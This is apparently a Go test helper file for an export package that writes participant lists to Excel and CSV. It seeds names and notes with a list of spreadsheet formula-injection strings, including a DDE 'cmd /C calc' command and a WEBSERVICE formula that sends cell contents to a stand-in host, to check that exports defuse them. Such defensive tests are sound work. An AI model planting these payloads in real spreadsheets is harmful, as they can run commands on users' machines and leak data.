package report

import (
	"bytes"
	"errors"
	"fmt"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"tinban/msg"
)

// attacks are texts that some program would calculate, open or run.
var attacks = []string{
	"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1",
	"\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠x", `=HYPERLINK("http://x.example","xem")`, `"=1+1"`,
	"=WEBSERVICE(\"http://x.example/\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1", "''=1+1", "=1+1\";=2+2", "a,b;c\td", "+84912345678", "-",
	"_x003D_1+1", "_x000D_", "<f>1+1</f>", "]]><f>1</f>", "&#61;1+1",
}

var zone = time.FixedZone("ICT", 7*3600)

func export() Export {
	return Export{
		Title: "Nuôi bò", Place: "A Lưới 3", By: "lan", Name: "Nguyễn Thị Lan", At: time.Date(2026, 6, 10, 9, 30, 0, 0, zone),
		Purpose: Purpose{Code: "call"}, Phones: true,
	}
}

var sampleStatuses = []Status{
	{"interested", "Đã ghi tên", "trong số chỗ, chưa mời"}, {"waiting", "Đang chờ", ""}, {"invited", "Đã mời", ""}, {"accepted", "Nhận lời", ""},
}

// samplePeople are n rows; the first ones bear attacks for names and notes.
func samplePeople(n int) []Person {
	var list []Person
	for i := range n {
		p := Person{
			Code: fmt.Sprintf("N%05d", i), Name: fmt.Sprintf("Kăn Thị Hoa %d", i), Year: 1960 + i%48, Sex: []string{"f", "m", ""}[i%3],
			Village: "A Ka 1", Commune: fmt.Sprintf("A Lưới %d", i%5+1), Phone: fmt.Sprintf("+8491%07d", i), Channel: []string{"sms", "chat", "paper", "spoken"}[i%4],
			Status: sampleStatuses[i%7%4].Code, At: export().At.Add(time.Duration(-i) * 37 * time.Minute),
		}
		if i < len(attacks) {
			p.Name, p.Note, p.Village = attacks[i], attacks[i], attacks[i]
		}
		list = append(list, p)
	}
	return list
}

func sampleBook(t testing.TB, n int) Book {
	t.Helper()
	b, err := Course(export(), sampleStatuses, samplePeople(n))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func xlsxOf(t testing.TB, b Book) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := b.XLSX(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func csvOf(t testing.TB, b Book) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := b.CSV(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func opened(t testing.TB, file []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// edited changes a workbook as somebody would, and saves it.
func edited(t testing.TB, file []byte, change func(f *excelize.File, sheet string) error) []byte {
	t.Helper()
	f := opened(t, file)
	if err := change(f, f.GetSheetName(0)); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := f.Write(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func readBack(t testing.TB, file []byte) []Row {
	t.Helper()
	rows, err := ReadBack(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// current is what the store says of sample people.
func current(list []Person) (now []Current) {
	for _, p := range list {
		now = append(now, Current{p.Code, p.Status, p.Note})
	}
	return now
}

// code is the text a refusal is said in.
func code(err error) string {
	var no *msg.Refusal
	if errors.As(err, &no) {
		return no.Code
	}
	return fmt.Sprint(err)
}
